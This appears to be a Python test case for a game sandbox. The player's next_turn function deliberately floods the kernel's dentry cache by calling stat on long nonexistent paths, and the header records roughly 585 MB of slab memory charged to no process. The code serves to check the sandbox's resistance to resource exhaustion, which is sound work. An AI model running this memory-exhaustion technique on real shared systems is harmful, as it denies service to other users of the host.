# MUST: fill the kernel's memory, past the limit of the own process, with the names of files that are not there | EXPECT: survive at default timing
# Seen: one player, ten turns of 0.45 s of CPU: 836,000 dentries, 585 MB of slab, charged to nobody.
# Holds when /proc/sys/fs/dentry-state (second number: unused) grows by less than 20,000 while this plays ten turns.
import os, time
PLACES = [os.path.dirname(os.__file__), "/lib", "/usr/lib", "/"]
asked = 0
def next_turn(world_state, avatar_state):
    global asked
    begun = time.process_time()
    while time.process_time() - begun < 0.4:
        for _ in range(100):
            asked += 1
            try: os.stat("%s/%d-%d%s" % (PLACES[asked % len(PLACES)], os.getpid(), asked, "x" * 225))
            except OSError: pass
    print("asked for", asked, "names")
    return MoveAction(direction.NORTH)
